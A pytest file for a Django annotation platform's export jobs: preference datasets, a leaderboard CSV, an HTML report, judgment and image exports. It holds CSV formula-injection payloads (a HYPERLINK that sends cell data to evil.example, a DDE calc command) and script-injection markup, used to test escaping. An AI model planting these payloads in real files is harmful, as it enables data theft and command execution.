"""Exports: the preference dataset (JSONL and Hugging Face ``datasets``, loadable by TRL as is),
the leaderboard CSV and the evaluation report, each run as a job in-process."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings

from server.core.exceptions import ApplicationError, Conflict, NotFound
from server.jobs.models import Job, JobStatus
from server.ratings.models import AssignmentStatus, Judgment
from server.training.exports import (
    DATASET_COLUMNS,
    LEADERBOARD_COLUMNS,
    export_run,
    export_start,
)
from server.training.models import PreferenceSnapshot
from server.training.snapshots import snapshot_rows
from tests import factories
from tests.server.api.world import World, build_world
from workers.runner import run_job

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(settings, tmp_path: Path) -> World:  # type: ignore[no-untyped-def]
    settings.VAR_DIR = tmp_path
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    return build_world()


@pytest.fixture
def hostile_world(settings, tmp_path: Path) -> World:  # type: ignore[no-untyped-def]
    """Every generated string carries markup that would run if it were not escaped."""
    settings.VAR_DIR = tmp_path
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    return build_world(hostile_text=True)


def run_export(**arguments) -> Job:  # type: ignore[no-untyped-def]
    job = export_start(**arguments)
    assert run_job(job.id, export_run) == "succeeded", Job.objects.get(id=job.id).error
    job.refresh_from_db()
    return job


def test_preferences_export_round_trips_through_jsonl_and_datasets(world: World) -> None:
    from datasets import load_from_disk

    job = run_export(study=world.study_a, kind="preferences", snapshot_id=world.snapshot.id)
    folder = Path(settings.VAR_DIR) / "exports" / f"job-{job.id}"
    assert job.status == JobStatus.SUCCEEDED
    assert job.result["files"] == {
        "preferences.jsonl": str(folder / "preferences.jsonl"),
        "dataset": str(folder / "dataset"),
        "preferences-dataset.zip": str(folder / "preferences-dataset.zip"),
    }
    assert (job.result["snapshot_id"], job.result["rows"]) == (world.snapshot.id, 23)
    expected = snapshot_rows(snapshot=world.snapshot)

    lines = (folder / "preferences.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == expected

    dataset = load_from_disk(str(folder / "dataset"))
    assert set(dataset) == {"train", "validation"}  # a DatasetDict by the snapshot's own split
    for split in ("train", "validation"):
        assert dataset[split].column_names == list(DATASET_COLUMNS)
        assert dataset[split].to_list() == [
            {name: row[name] for name in DATASET_COLUMNS} for row in expected if row["split"] == split
        ]
    assert len(dataset["train"]) == 23 and len(dataset["validation"]) == 0

    with zipfile.ZipFile(folder / "preferences-dataset.zip") as archive:
        names = set(archive.namelist())
    assert {"dataset/dataset_dict.json", "dataset/train/state.json", "dataset/validation/state.json"} <= names


def test_the_saved_dataset_trains_trl_reward_trainer_as_is(world: World, tmp_path: Path) -> None:
    from datasets import load_from_disk
    from transformers import AutoModelForSequenceClassification, AutoTokenizer
    from trl import RewardConfig, RewardTrainer

    from tests.workers.ml.tiny_models import build_tiny_gpt2

    job = run_export(study=world.study_a, kind="preferences")
    dataset = load_from_disk(str(Path(job.result["files"]["dataset"])))
    model_dir = build_tiny_gpt2(tmp_path / "tiny")
    tokenizer = AutoTokenizer.from_pretrained(model_dir)
    model = AutoModelForSequenceClassification.from_pretrained(model_dir, num_labels=1)
    model.config.pad_token_id = tokenizer.pad_token_id
    trainer = RewardTrainer(
        model=model,
        args=RewardConfig(
            output_dir=str(tmp_path / "out"),
            bf16=False,
            gradient_checkpointing=False,
            use_cpu=True,
            max_steps=1,
            report_to=[],
            per_device_train_batch_size=4,
            max_length=128,
            save_strategy="no",
            logging_steps=1,
        ),
        train_dataset=dataset["train"],
        processing_class=tokenizer,
    )
    before = [parameter.detach().clone() for parameter in model.score.parameters()]
    result = trainer.train()
    assert trainer.state.global_step == 1
    assert math.isfinite(result.training_loss)
    assert any(
        not parameter.equal(old) for parameter, old in zip(model.score.parameters(), before, strict=True)
    )


def test_a_preferences_export_without_a_snapshot_freezes_one(settings, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    settings.VAR_DIR = tmp_path
    comparison = factories.comparison()
    assignment = factories.assignment(comparison=comparison, status=AssignmentStatus.COMPLETED)
    Judgment.objects.create(
        assignment=assignment,
        outcome="B",
        idempotency_key="only-vote",
        submitted_at=assignment.reserved_at,
        strength=3,
    )
    job = run_export(study=comparison.study, kind="preferences")
    snapshot = PreferenceSnapshot.objects.get(study=comparison.study)
    assert job.result["snapshot_id"] == snapshot.id
    row = json.loads(Path(job.result["files"]["preferences.jsonl"]).read_text(encoding="utf-8"))
    assert (row["chosen"], row["rejected"], row["margin"]) == (
        comparison.sample_b.text,
        comparison.sample_a.text,
        1.0,
    )


def _typed(value: str, column: str) -> object:
    if value == "":
        return None
    if column in ("rank", "version_id", "battles"):
        return int(value)
    if column == "label":
        return value
    return float(value)


def test_leaderboard_csv_parses_back_to_the_leaderboard_rows(world: World) -> None:
    job = run_export(study=world.study_a, kind="leaderboard")
    text = Path(job.result["files"]["leaderboard.csv"]).read_text(encoding="utf-8")
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames or ()) == LEADERBOARD_COLUMNS
    parsed = [{column: _typed(row[column], column) for column in LEADERBOARD_COLUMNS} for row in reader]
    assert parsed == [
        {column: row[column] for column in LEADERBOARD_COLUMNS} for row in world.leaderboard.rows
    ]
    assert job.result["leaderboard_id"] == world.leaderboard.id


def test_evaluation_report_is_one_self_contained_page_with_escaped_text(hostile_world: World) -> None:
    world = hostile_world
    job = run_export(study=world.study_a, kind="evaluation_report")
    html = Path(job.result["files"]["evaluation-report.html"]).read_text(encoding="utf-8")
    assert job.result["evaluation_ids"] == [world.evaluation.id]
    assert html.count("<svg") == 5  # ratings, novelty curve, scatter, two metrics with intervals
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;window.__pwned = 1&lt;/script&gt;" in html
    assert re.search(r"<[a-z]+[^<>]*\s(src|href)=", html) is None  # nothing loaded from anywhere
    assert "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")


@pytest.mark.parametrize(
    ("arguments", "error", "message"),
    [
        ({"kind": "parquet"}, ApplicationError, "Unknown export kind 'parquet'"),
        (
            {"kind": "leaderboard", "snapshot_id": 1},
            ApplicationError,
            "A snapshot is chosen only for a preferences",
        ),
        ({"kind": "preferences", "snapshot_id": 10**9}, NotFound, "The study has no snapshot 1000000000."),
        ({"kind": "judgments", "hub_repo": "me/prefs"}, ApplicationError, "Only a preferences export"),
        ({"kind": "preferences", "hub_repo": "no-slash"}, ApplicationError, "owner/name"),
        ({"kind": "preferences", "hub_repo": "me/prefs"}, ApplicationError, "needs a token: set HF_TOKEN"),
    ],
)
def test_export_start_refuses_what_cannot_be_exported(world: World, arguments, error, message) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(error, match=message):
        export_start(study=world.study_a, **arguments)
    assert not Job.objects.filter(kind="export", status=JobStatus.QUEUED).exists()


def test_export_start_refuses_a_study_with_nothing_to_export(world: World) -> None:
    for kind, message in [
        ("preferences", "no eligible judgments"),
        ("leaderboard", "no leaderboard yet"),
        ("evaluation_report", "no evaluation yet"),
        ("judgments", "no judgments to export yet"),
    ]:
        with pytest.raises(Conflict, match=message):
            export_start(study=world.study_b, kind=kind)


def test_export_start_queues_a_validated_job(world: World) -> None:
    job = export_start(
        study=world.study_a, kind="preferences", snapshot_id=world.snapshot.id, created_by_id=world.staff.id
    )
    assert (job.kind, job.queue, job.status) == ("export", "cpu", "queued")
    assert job.params == {"kind": "preferences", "snapshot_id": world.snapshot.id}
    assert job.created_by_id == world.staff.id


def test_leaderboard_csv_writes_a_formula_like_label_as_text(world: World) -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1, "rated 1st")/external',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
    ]
    board = world.leaderboard
    for row, label in zip(board.rows, hostile, strict=False):
        row["label"] = label
    board.save(update_fields=["rows"])

    job = run_export(study=world.study_a, kind="leaderboard")

    text = Path(job.result["files"]["leaderboard.csv"]).read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["label"] for row in rows] == ["'" + label for label in hostile[: len(rows)]]
    assert [float(row["rating"]) for row in rows] == [row["rating"] for row in board.rows]


def test_judgments_export_streams_every_judgment_with_every_field_to_jsonl_and_parquet(world: World) -> None:
    import pyarrow.parquet as pq

    from server.ratings.judgment_export import COLUMN_NAMES

    # Given a judgment revoked by undo beside the live ones, with a rationale and flags
    judgments = Judgment.objects.filter(assignment__comparison__study=world.study_a).order_by("id")
    revoked = judgments.first()
    Judgment.objects.filter(id=revoked.id).update(
        revoked_at=revoked.submitted_at, revoked_reason="undo", rationale="<b>too long</b>, 'quoted'",
        is_flagged=True, flag_reasons=["fast"],
    )  # fmt: skip

    job = run_export(study=world.study_a, kind="judgments")

    files = job.result["files"]
    lines = [json.loads(line) for line in Path(files["judgments.jsonl"]).read_text().splitlines()]
    table = pq.read_table(files["judgments.parquet"])
    assert table.column_names == list(COLUMN_NAMES) == list(lines[0])
    assert job.result["rows"] == len(lines) == table.num_rows == judgments.count()
    assert [line["judgment_id"] for line in lines] == list(judgments.values_list("id", flat=True))
    first, parquet_first = lines[0], table.slice(0, 1).to_pylist()[0]
    assert (first["revoked_reason"], first["rationale"], first["flag_reasons"]) == (
        "undo", "<b>too long</b>, 'quoted'", ["fast"]
    )  # fmt: skip
    assert parquet_first["flag_reasons"] == ["fast"] and parquet_first["rationale"] == first["rationale"]
    assert parquet_first["submitted_at"].isoformat() == first["submitted_at"]
    stored = judgments.select_related("assignment__comparison__sample_a", "assignment__rater").first()
    comparison = stored.assignment.comparison
    assert (first["text_a"], first["sample_a_id"], first["rater_id"], first["comparison_kind"]) == (
        comparison.sample_a.text, comparison.sample_a_id, stored.assignment.rater_id, comparison.kind
    )  # fmt: skip


def test_judgments_export_carries_every_answer_to_every_criterion_in_one_query_per_chunk(
    settings, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    import pyarrow.parquet as pq
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from server.ratings.judgment_export import judgments_write
    from server.ratings.services import assignment_next_for_rater, judgment_submit
    from server.studies.models import Criterion
    from server.studies.services import study_create

    settings.VAR_DIR = tmp_path
    # Given a creativity study (more original? better?) with three votes, then a third question
    # added and a fourth vote that answers all three
    study = study_create(
        name="Poems", slug="poems-criteria", template="creativity", require_guidelines_ack=False,
        gold_rate=0.0, repeat_rate=0.0,
    )  # fmt: skip
    for _ in range(4):
        factories.comparison(study=study)
    votes = [("left", {"better": "right"}), ("tie", {"better": "left"}), ("right", {"better": "both_bad"})]
    for number, (choice, answers) in enumerate(votes):
        rater = factories.rater(study=study)
        token = assignment_next_for_rater(rater=rater).assignment.token
        key = f"k{number}"
        judgment_submit(rater=rater, token=token, choice=choice, idempotency_key=key, answers=answers)
    Criterion.objects.create(study=study, key="clear", question="Which is clearer?", position=2)
    rater = factories.rater(study=study)
    token = assignment_next_for_rater(rater=rater).assignment.token
    answers = {"better": "left", "clear": "right"}
    judgment_submit(rater=rater, token=token, choice="left", idempotency_key="k3", answers=answers)
    judgments = list(Judgment.objects.filter(assignment__comparison__study=study).order_by("id"))

    job = run_export(study=study, kind="judgments")

    files = job.result["files"]
    lines = [json.loads(line) for line in Path(files["judgments.jsonl"]).read_text().splitlines()]
    table = pq.read_table(files["judgments.parquet"])
    assert table.column_names[-1] == "answers" == list(lines[0])[-1]
    assert table.column("answers").to_pylist() == [line["answers"] for line in lines]
    questions = {
        "original": "Which is more original?", "better": "Which is better?", "clear": "Which is clearer?"
    }  # fmt: skip
    expected = [
        [
            {"criterion": "original", "position": 0, "question": questions["original"],
             "outcome": judgment.outcome, "chose_left": judgment.chose_left},
            *(
                {"criterion": key, "position": position, "question": questions[key], "outcome": outcome,
                 "chose_left": chose_left}
                for key, position, outcome, chose_left in judgment.answers.order_by("criterion__position")
                .values_list("criterion__key", "criterion__position", "outcome", "chose_left")
            ),
        ]
        for judgment in judgments
    ]  # fmt: skip
    assert [line["answers"] for line in lines] == expected
    assert [[entry["criterion"] for entry in line["answers"]] for line in lines] == [
        ["original", "better"], ["original", "better"], ["original", "better"],
        ["original", "better", "clear"],
    ]  # fmt: skip
    # Each answer is the vote's own: "tie" to the first question and "left" to the second, ...
    assert [(entry["outcome"], entry["chose_left"]) for entry in lines[1]["answers"]] == [
        ("tie", None), ("B" if lines[1]["left_is_a"] is False else "A", True)
    ]  # fmt: skip
    assert [(entry["outcome"], entry["chose_left"]) for entry in lines[3]["answers"]][2] == (
        "B" if lines[3]["left_is_a"] else "A", False
    )  # fmt: skip
    assert lines[2]["answers"][1]["outcome"] == "both_bad"
    assert job.result["criteria"] == [
        {"key": "original", "position": 0, "question": "Which is more original?"},
        {"key": "better", "position": 1, "question": "Which is better?"},
        {"key": "clear", "position": 2, "question": "Which is clearer?"},
    ]

    # The further answers come in one query per chunk, not one per judgment.
    with CaptureQueriesContext(connection) as queries:
        written = judgments_write(
            study=study, jsonl_path=tmp_path / "j.jsonl", parquet_path=tmp_path / "j.parquet", chunk_rows=3
        )
    answer_queries = [
        query["sql"] for query in queries.captured_queries if 'FROM "ratings_judgmentanswer"' in query["sql"]
    ]
    assert (written, len(answer_queries)) == (4, 2)


def test_a_criterion_added_while_judgments_export_leaves_the_export_to_the_questions_it_started_with() -> (
    None
):
    from server.ratings.judgment_export import judgment_rows
    from server.ratings.models import JudgmentAnswer
    from server.ratings.services import assignment_next_for_rater, judgment_submit
    from server.studies.models import Criterion
    from server.studies.services import study_create

    # Given a creativity study with two votes, exported one judgment per chunk
    study = study_create(
        name="Poems", slug="poems-added", template="creativity", require_guidelines_ack=False,
        gold_rate=0.0, repeat_rate=0.0,
    )  # fmt: skip
    for number in range(2):
        factories.comparison(study=study)
        rater = factories.rater(study=study)
        token = assignment_next_for_rater(rater=rater).assignment.token
        judgment_submit(
            rater=rater, token=token, choice="left", idempotency_key=f"k{number}", answers={"better": "right"}
        )
    second = Judgment.objects.filter(assignment__comparison__study=study).order_by("id").last()
    chunks = judgment_rows(study=study, chunk_rows=1)
    first_chunk = next(chunks)

    # When a third question is added, and answered for the second vote, before its chunk is read
    clear = Criterion.objects.create(study=study, key="clear", question="Which is clearer?", position=2)
    JudgmentAnswer.objects.create(judgment=second, criterion=clear, outcome="A", chose_left=True)
    rest = list(chunks)

    # Then every row answers the questions the export started with, and no more
    assert [[entry["criterion"] for entry in row[-1]] for chunk in (first_chunk, *rest) for row in chunk] == [
        ["original", "better"],
        ["original", "better"],
    ]


def test_judgments_export_holds_one_chunk_in_memory_whatever_the_study_size(
    world: World, tmp_path: Path
) -> None:
    """Python memory at the peak of writing 4x the judgments stays about the same (one chunk)."""
    import tracemalloc

    from server.ratings.judgment_export import judgments_write

    base = list(Judgment.objects.filter(assignment__comparison__study=world.study_a).order_by("id"))
    template = base[0]

    def grow_to(count: int) -> None:
        have = Judgment.objects.filter(assignment__comparison__study=world.study_a).count()
        # Revoked copies on the same assignment (only one live judgment per assignment).
        Judgment.objects.bulk_create(
            [
                Judgment(
                    assignment_id=template.assignment_id, outcome=template.outcome, rationale="r" * 200,
                    idempotency_key=f"bulk-{have + number:08d}", submitted_at=template.submitted_at,
                    revoked_at=template.submitted_at, revoked_reason="undo",
                )
                for number in range(count - have)
            ],
            batch_size=2000,
        )  # fmt: skip

    peaks = []
    for count in (2_000, 8_000):
        grow_to(count)
        tracemalloc.start()
        written = judgments_write(
            study=world.study_a, jsonl_path=tmp_path / "j.jsonl", parquet_path=tmp_path / "j.parquet",
            chunk_rows=500,
        )  # fmt: skip
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert written == count
    assert peaks[1] < 1.5 * peaks[0], (
        f"peak Python memory {peaks[0]:,} B at 2,000 rows, {peaks[1]:,} B at 8,000"
    )


def test_a_hub_push_that_fails_is_reported_and_the_files_are_kept(world: World, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    # The test machine is offline (HF_HUB_OFFLINE=1): the push cannot reach the Hub.
    monkeypatch.setenv("HF_TOKEN", "hf_not_a_real_token")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    job = run_export(study=world.study_a, kind="preferences", hub_repo="lovelace-tests/prefs")
    assert job.params["hub_repo"] == "lovelace-tests/prefs"
    hub = job.result["hub"]
    assert (hub["repo"], hub["pushed"]) == ("lovelace-tests/prefs", False) and hub["error"]
    assert "hf_not_a_real_token" not in json.dumps(job.result)
    assert Path(job.result["files"]["preferences-dataset.zip"]).is_file()


# --- Image studies: images written once by content hash, rows naming them, image columns -----------

COLOURS = {"red": (220, 0, 0), "blue": (0, 0, 220), "green": (0, 200, 0), "grey": (90, 90, 90)}


def judged_image_study() -> tuple[object, dict[str, object]]:
    """Four prompts; the red image is in three pairs (one asset, one export file); the judged
    winners are red, blue (a tie is not a preference), green and red."""
    study = factories.study(modality="image")
    versions = [factories.version(enrol_in=study) for _ in range(2)]
    rater = factories.rater(study=study)
    images: dict[str, object] = {}
    plan = [
        ("red", "blue", "A"),
        ("blue", "red", "A"),
        ("grey", "green", "B"),
        ("red", "grey", "A"),
        ("green", "blue", "tie"),
    ]
    for number, (left, right, outcome) in enumerate(plan):
        prompt = factories.prompt(study=study, text=f"shape {number}")
        samples = []
        for version, colour in zip(versions, (left, right), strict=True):
            sample = factories.image_sample(
                prompt=prompt, version=version, data=factories.image_bytes(8, 8, color=COLOURS[colour])
            )
            images[colour] = sample.image
            samples.append(sample)
        comparison = factories.comparison(
            study=study, prompt=prompt, sample_a=samples[0], sample_b=samples[1]
        )
        factories.judgment(comparison=comparison, rater=rater, outcome=outcome)
    return study, images


@pytest.mark.usefixtures("image_storage")
def test_an_image_preferences_export_writes_each_image_once_and_loads_back_as_images(
    settings, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    from datasets import load_from_disk

    from server.generators.images import image_asset_read
    from server.training.snapshots import snapshot_create

    settings.VAR_DIR = tmp_path
    study, images = judged_image_study()
    snapshot = snapshot_create(study=study, validation_fraction=0.5)
    job = run_export(study=study, kind="preferences", snapshot_id=snapshot.id)
    folder = Path(job.result["directory"])
    assert sorted(job.result["files"]) == sorted(
        ["preferences.jsonl", "images", "dataset", "preferences-dataset.zip", "preferences-images.zip"]
    )
    assert (job.result["rows"], job.result["images"], job.result["skipped_pairs"]) == (4, 4, 0)

    # The JSONL: one row a pair, chosen / rejected naming files that hold the stored bytes.
    rows = [json.loads(line) for line in (folder / "preferences.jsonl").read_text().splitlines()]
    by_sha = {asset.sha256: asset for asset in images.values()}
    winners = [(by_sha[row["chosen_sha256"]], by_sha[row["rejected_sha256"]]) for row in rows]
    assert winners == [
        (images["red"], images["blue"]),
        (images["blue"], images["red"]),
        (images["green"], images["grey"]),
        (images["red"], images["grey"]),
    ]
    for row in rows:
        for side in ("chosen", "rejected"):
            asset = by_sha[row[f"{side}_sha256"]]
            assert row[side] == f"images/{asset.sha256}.png"
            assert (folder / row[side]).read_bytes() == image_asset_read(asset)
    assert sorted(path.name for path in (folder / "images").iterdir()) == sorted(
        f"{asset.sha256}.png" for asset in images.values()
    )
    assert {row["split"] for row in rows} == {"train", "validation"}  # both splits have pairs

    # The dataset: image columns that decode to the pixels, row for row as the JSONL's splits.
    dataset = load_from_disk(str(folder / "dataset"))
    assert set(dataset) == {"train", "validation"}
    for split in ("train", "validation"):
        expected = [row for row in rows if row["split"] == split]
        part = dataset[split]
        assert part.column_names == list(DATASET_COLUMNS)
        assert [type(part.features[name]).__name__ for name in ("chosen", "rejected")] == ["Image", "Image"]
        assert len(part) == len(expected)
        for example, row in zip(part, expected, strict=True):
            assert (example["prompt"], example["margin"], example["rater_id"]) == (
                row["prompt"], row["margin"], row["rater_id"]
            )  # fmt: skip
            for side in ("chosen", "rejected"):
                colour = next(name for name, asset in images.items() if asset.sha256 == row[f"{side}_sha256"])
                assert (
                    example[side].size == (8, 8)
                    and example[side].convert("RGB").getpixel((3, 3)) == COLOURS[colour]
                )
    # The download: JSONL and images in one archive, the same bytes.
    with zipfile.ZipFile(folder / "preferences-images.zip") as archive:
        names = sorted(archive.namelist())
        assert names == sorted(["preferences.jsonl", *(f"images/{a.sha256}.png" for a in images.values())])
        assert archive.read(rows[0]["chosen"]) == (folder / rows[0]["chosen"]).read_bytes()
    assert not (folder / ".datasets-cache").exists()


@pytest.mark.usefixtures("image_storage")
def test_an_image_judgments_export_names_each_image_file_and_hash(settings, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import pyarrow.parquet as pq

    settings.VAR_DIR = tmp_path
    study, images = judged_image_study()
    job = run_export(study=study, kind="judgments")
    folder = Path(job.result["directory"])
    assert "images" in job.result["files"] and "judgments-images.zip" in job.result["files"]
    assert job.result["images"] == 4
    lines = [json.loads(line) for line in (folder / "judgments.jsonl").read_text().splitlines()]
    table = pq.read_table(folder / "judgments.parquet").to_pylist()
    assert len(lines) == len(table) == 5
    for line, parquet in zip(lines, table, strict=True):
        for side in ("a", "b"):
            sha = line[f"image_{side}_sha256"]
            assert line[f"image_{side}"] == parquet[f"image_{side}"] == f"images/{sha}.png"
            assert (folder / line[f"image_{side}"]).is_file()
            assert line[f"text_{side}"] == ""
    assert sorted(path.name for path in (folder / "images").iterdir()) == sorted(
        f"{asset.sha256}.png" for asset in images.values()
    )


def test_a_text_judgments_export_has_no_image_files(world: World) -> None:
    job = run_export(study=world.study_a, kind="judgments")
    lines = [
        json.loads(line) for line in Path(job.result["files"]["judgments.jsonl"]).read_text().splitlines()
    ]
    assert {(line["image_a"], line["image_b"], line["image_a_sha256"]) for line in lines} == {
        (None, None, None)
    }
    assert sorted(job.result["files"]) == ["judgments.jsonl", "judgments.parquet"]


@pytest.mark.usefixtures("image_storage")
def test_an_image_preferences_export_without_validation_pairs_has_an_empty_image_split(
    settings, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    from datasets import load_from_disk

    from server.training.snapshots import snapshot_create

    settings.VAR_DIR = tmp_path
    study, _ = judged_image_study()
    job = run_export(
        study=study, kind="preferences", snapshot_id=snapshot_create(study=study, validation_fraction=0.0).id
    )
    dataset = load_from_disk(job.result["files"]["dataset"])
    assert (len(dataset["train"]), len(dataset["validation"])) == (4, 0)
    assert type(dataset["validation"].features["chosen"]).__name__ == "Image"


@pytest.mark.usefixtures("image_storage")
def test_the_exported_image_dataset_trains_the_image_reward_model(settings, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import numpy as np
    from datasets import load_from_disk

    from server.training.snapshots import snapshot_create
    from workers.ml.image_reward import ImagePreferences, ImageRewardConfig, train_image_reward_model

    settings.VAR_DIR = tmp_path
    study, _ = judged_image_study()
    job = run_export(
        study=study, kind="preferences", snapshot_id=snapshot_create(study=study, validation_fraction=0.0).id
    )
    train = load_from_disk(job.result["files"]["dataset"])["train"]

    def pixels(images: list) -> np.ndarray:  # type: ignore[type-arg]
        return np.stack(
            [np.asarray(image.convert("RGB").resize((32, 32)), dtype=np.uint8) for image in images]
        )

    preferences = ImagePreferences(
        chosen=pixels(train["chosen"]),
        rejected=pixels(train["rejected"]),
        margins=np.asarray(train["margin"]),
    )
    result = train_image_reward_model(
        preferences=preferences,
        reference_images=np.concatenate([preferences.chosen, preferences.rejected]),
        output_dir=tmp_path / "reward",
        config=ImageRewardConfig(ensemble_size=1, epochs=2, bootstrap=False),
    )
    assert preferences.chosen.shape == (4, 32, 32, 3)
    assert (result.train_pairs, (tmp_path / "reward" / "image_reward.json").is_file()) == (4, True)
    assert np.isfinite(result.first_loss) and np.isfinite(result.last_loss)
